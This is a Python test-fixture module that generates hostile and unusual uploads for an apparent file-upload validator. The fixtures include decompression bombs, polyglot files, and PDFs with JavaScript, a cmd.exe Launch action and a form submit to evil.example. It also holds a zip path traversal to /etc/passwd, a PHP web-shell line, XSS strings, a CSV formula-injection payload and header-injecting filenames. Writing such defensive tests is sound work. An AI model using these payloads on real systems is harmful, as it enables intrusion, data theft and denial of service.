"""Files as people and attackers send them, made on the spot: pictures that know too much, bombs, and files of two faces."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from functools import cache
from typing import Any

from PIL import Image, PngImagePlugin
from werkzeug.datastructures import FileStorage

PLACE = (41.9818, 2.8237)
"""Girona, where a picture was taken."""
SECRET = "Canon of Ana 4711"
"""What a picture says beside its points."""
MARK = "document.title='RAN'"
SCRIPT = f"<script>{MARK};alert(1)</script>"


def sent(data: bytes, name: str = "x") -> FileStorage:
    """A file as a form bears it."""
    return FileStorage(io.BytesIO(data), filename=name)


def points(width: int = 320, height: int = 200, mode: str = "RGB") -> Image.Image:
    """A picture that is red on its left and blue on its right, so that one sees which way up it is."""
    image = Image.new("RGB", (width, height), "red")
    image.paste("blue", (width // 2, 0, width, height))
    image = image.convert(mode)
    if mode == "RGBA":
        image.putalpha(100)
    return image


def saved(image: Image.Image, form: str, **more: Any) -> bytes:
    """A picture as a file."""
    out = io.BytesIO()
    image.save(out, form, **more)
    return out.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    """What a telephone writes beside a picture: who, where, and which way up."""
    found = Image.Exif()
    found[0x0112], found[0x010F], found[0x013B] = orientation, SECRET, SECRET
    gps = found.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (41.0, 58.0, 54.5), "E", (2.0, 49.0, 25.3)
    return found


def jpeg(orientation: int = 1, **more: Any) -> bytes:
    """A photograph with all that a telephone writes beside it."""
    return saved(points(), "JPEG", exif=exif(orientation), comment=SECRET.encode(), **more)


def png_with_texts() -> bytes:
    """A PNG that says more than it shows."""
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Author", SECRET)
    texts.add_itxt("XML:com.adobe.xmp", f"<x>{SECRET}</x>")
    return saved(points(), "PNG", pnginfo=texts, exif=exif())


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG of nearly no bytes and nine hundred million points."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(10_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def png_of_packed_text() -> bytes:
    """A PNG whose text is packed a thousand to one."""
    whole = saved(points(20, 20), "PNG")
    text = b"Author\0\0" + zlib.compress(bytes(60_000_000), 9)
    return whole[:33] + _chunk(b"zTXt", text) + whole[33:]


def jpeg_of_a_flood() -> bytes:
    """A JPEG that says it has four billion points."""
    whole = bytearray(saved(points(), "JPEG"))
    at = whole.index(b"\xff\xc0") + 5
    whole[at : at + 4] = struct.pack(">HH", 65_500, 65_500)
    return bytes(whole)


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """A PDF of one empty page, with further objects in it."""
    out, places = b"%PDF-1.7\n", []
    base = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    )
    for number, body in enumerate((*base, *objects), 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, table, size, tail, len(out),
    )  # fmt: skip


def packed(body: bytes) -> bytes:
    """An object of a PDF in which others are packed."""
    data = zlib.compress(body)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


ACTIVE: dict[str, bytes] = {
    "script": pdf(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"),
    "script, spelled": pdf(b"<< /Type /Action /S /J#61vaScript /#4aS (app.alert(1)) >>"),
    "script, packed": pdf(packed(b"9 0 << /S /JavaScript /JS (app.alert(1)) >>")),
    "program": pdf(b"<< /Type /Action /S /Launch /F (cmd.exe) >>"),
    "file": pdf(b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
    "sends": pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"),
    "media": pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
    "locked": pdf(tail=b"/Encrypt 9 0 R "),
    "unread": pdf(packed(bytes(60_000_000))),
}
"""PDFs that do more than being read; the first word is what they do."""

MAIL = (
    b"From: Shop <shop@example.org>\r\nTo: ana@example.org\r\nDate: Mon, 2 Mar 2026 10:00:00 +0100\r\n"
    b"Subject: Your order\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nThank you.\r\n"
)
TABLE = b"number,name,amount\r\n1,Lamp,12.50\r\n2,Cup,3.00\r\n"
TEXT = "Recollida a la botiga, dilluns; tot plegat 12 €\n".encode()


@cache
def archive(name: str = "../../etc/passwd") -> bytes:
    """A packed file that would write where it should not."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packing:
        packing.writestr(name, bytes(20_000_000))
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as packing:
        link = tarfile.TarInfo("inside")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        packing.addfile(link)
    return out.getvalue()


def _moving(form: str) -> bytes:
    return saved(points(), form, save_all=True, append_images=[points(mode="L").convert("RGB")])


@cache
def refused() -> dict[str, bytes]:
    """What is not taken, whatever it is called."""
    whole = saved(points(800, 600), "JPEG")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()
    page = f"<!DOCTYPE html><html><body>{SCRIPT}</body></html>".encode()
    return {
        "nothing": b"",
        "page": page,
        "page after spaces": b"\n\n   " + page,
        "page after a mark": b"\xef\xbb\xbf" + page,
        "page after a comment": b"<!-- x -->\n" + page,
        "page without a head": SCRIPT.encode(),
        "drawing": svg,
        "drawing with a head": b'<?xml version="1.0"?>\n' + svg,
        "entities of entities": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>',
        "program of a server": b"<?php system($_GET[0]); ?>",
        "zip": archive(),
        "gzip": gzip.compress(bytes(20_000_000)),
        "tar with a link": _tar(),
        "gif": saved(points(), "GIF"),
        "moving gif": _moving("GIF"),
        "moving png": _moving("PNG"),
        "moving webp": _moving("WEBP"),
        "tiff": saved(points(), "TIFF"),
        "bmp": saved(points(), "BMP"),
        "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200),
        "avif": b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00mif1avif" + bytes(200),
        "film": b"\x00\x00\x00\x18ftypmp42" + bytes(200),
        "half a jpeg": whole[: len(whole) // 2],
        "half a png": saved(points(400, 400), "PNG", compress_level=0)[:9000],
        "head of a jpeg": b"\xff\xd8\xff" + b"\x00" * 40,
        "head of a png": b"\x89PNG\r\n\x1a\n",
        "webp without anything": b"RIFF\x10\x00\x00\x00WEBPVP8 ",
        "bomb": png_bomb(),
        "long bomb": png_bomb(2_000_000_000, 1),
        "flood": jpeg_of_a_flood(),
        "png of packed text": png_of_packed_text(),
        "pdf cut off": pdf()[:-20],
        "pdf and zip": pdf() + archive(),
        "zip in front of a pdf": archive() + pdf(),
        "words in front of a pdf": bytes(10) + pdf(),
        "program": b"MZ\x90\x00" + bytes(300),
        "linux program": b"\x7fELF\x02\x01\x01" + bytes(300),
        "office": archive("word/document.xml"),
        "text with a nul": b"hello\x00world",
        "text of no known letters": b"caf\xe9 con leche",
        "text of a terminal": b"\x1b]0;title\x07",
        "wide text": "hello".encode("utf-16"),
        "mail with a nul": MAIL + b"\x00",
    }


@cache
def taken() -> dict[str, tuple[bytes, str]]:
    """What is taken, and as what, however odd it is."""
    photo = jpeg()
    return {
        "photograph": (photo, "jpeg"),
        "photograph of a page": (photo + SCRIPT.encode() + b"<html>", "jpeg"),
        "photograph of a zip": (photo + archive(), "jpeg"),
        "photograph with a page inside": (saved(points(), "JPEG", comment=SCRIPT.encode()), "jpeg"),
        "grey photograph": (saved(points(mode="L"), "JPEG"), "jpeg"),
        "printed photograph": (saved(points(mode="CMYK"), "JPEG"), "jpeg"),
        "slowly appearing photograph": (saved(points(), "JPEG", progressive=True), "jpeg"),
        "two photographs in one": (_moving("MPO"), "jpeg"),
        "photograph with broken notes": (photo.replace(b"MM\x00*", b"MM\xff\xff", 1).replace(b"II*\x00", b"II\xff\xff", 1), "jpeg"),
        "png": (png_with_texts(), "png"),
        "png one sees through": (saved(points(mode="RGBA"), "PNG"), "png"),
        "png of few colours": (saved(points().quantize(8), "PNG", transparency=0), "png"),
        "png of deep greys": (saved(Image.new("I;16", (40, 30), 900), "PNG"), "png"),
        "png of black and white": (saved(points(mode="1"), "PNG"), "png"),
        "webp": (saved(points(), "WEBP", exif=exif(6)), "jpeg"),
        "webp one sees through": (saved(points(mode="RGBA"), "WEBP"), "png"),
        "point": (saved(points(1, 1), "PNG"), "png"),
        "line": (saved(points(3000, 1), "PNG"), "png"),
        "pdf": (pdf(), "pdf"),
        **{f"pdf: {name}": (data, "pdf") for name, data in ACTIVE.items()},
        "text": (TEXT, "text"),
        "text about a page": (b"Here is how to write it: " + SCRIPT.encode(), "text"),
        "table": (TABLE, "csv"),
        "table of formulas": (b"name;amount\n=cmd|' /C calc'!A0;1\n", "csv"),
        "mail": (MAIL, "mail"),
        "mail of a page": (MAIL.replace(b"text/plain", b"text/html") + SCRIPT.encode(), "mail"),
    }


NAMES: dict[str, str] = {
    "invoice.pdf": "invoice.pdf",
    "../../etc/passwd": "passwd.pdf",
    "C:\\Users\\ana\\invoice.PDF": "invoice.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie x=1.pdf",
    "gpj.\u202efdp.exe": "gpj.fdp.exe.pdf",
    "nul.pdf": "_nul.pdf",
    "COM1": "_COM1.pdf",
    "a\x00.exe": "a.exe.pdf",
    ".htaccess": "htaccess.pdf",
    '"><script>alert(1)</script>.pdf': "script.pdf",
    "   ": "file.pdf",
    "": "file.pdf",
    "....": "file.pdf",
    "factura d'octubre – Girona.pdf": "factura d'octubre – Girona.pdf",
    "发票.pdf": "发票.pdf",
    "x" * 300 + ".pdf": "x" * 96 + ".pdf",
    "a\u200bb\u2066c.pdf": "abc.pdf",
    "%2e%2e%2fetc": "%2e%2e%2fetc.pdf",
}
"""What a sender calls a PDF, and what it is called here."""
